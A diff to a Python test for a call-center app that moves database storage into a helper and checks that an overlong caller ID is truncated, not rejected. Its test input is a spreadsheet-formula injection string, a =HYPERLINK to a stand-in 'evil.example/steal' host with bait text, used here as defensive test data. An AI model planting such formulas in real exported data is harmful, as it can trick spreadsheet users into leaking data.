@@ -6,13 +6,8 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from sqlalchemy import select
-
 from callcenter.calls.replay import replay_chunks
-from callcenter.db.models.calls import Call
-from callcenter.db.session import make_engine, make_session_factory
-from callcenter.store.spool import Spool
-from callcenter.store.writer import CallWriter
+from tests.support.stored import stored_call
 
 HOSTILE = '=HYPERLINK("http://evil.example/steal?n=1","您有一条新消息")' + "9" * 20
 
@@ -22,15 +17,6 @@ def test_a_caller_id_longer_than_the_column_is_stored_not_rejected(database_url:
     data = (traces_dir / "answered_fast.ami").read_bytes().replace(b"13800138000", HOSTILE.encode())
     [record] = list(replay_chunks(iter([data])))
     assert record.caller == HOSTILE
-    engine = make_engine(database_url)
-    writer = CallWriter(make_session_factory(engine), Spool(tmp_path / "spool", 1 << 30))
-    writer.start()
-    writer.submit(record, [])
-    writer.flush()
-    writer.stop()
-    with make_session_factory(engine)() as session:
-        call = session.scalars(select(Call)).one()
-        assert call.linkedid == record.linkedid and call.answered
-        assert call.caller == HOSTILE[:32]
-    engine.dispose()
-    assert not writer.rejected_path.exists()
+    call = stored_call(database_url, tmp_path / "spool", record)
+    assert call.linkedid == record.linkedid and call.answered
+    assert call.caller == HOSTILE[:32]
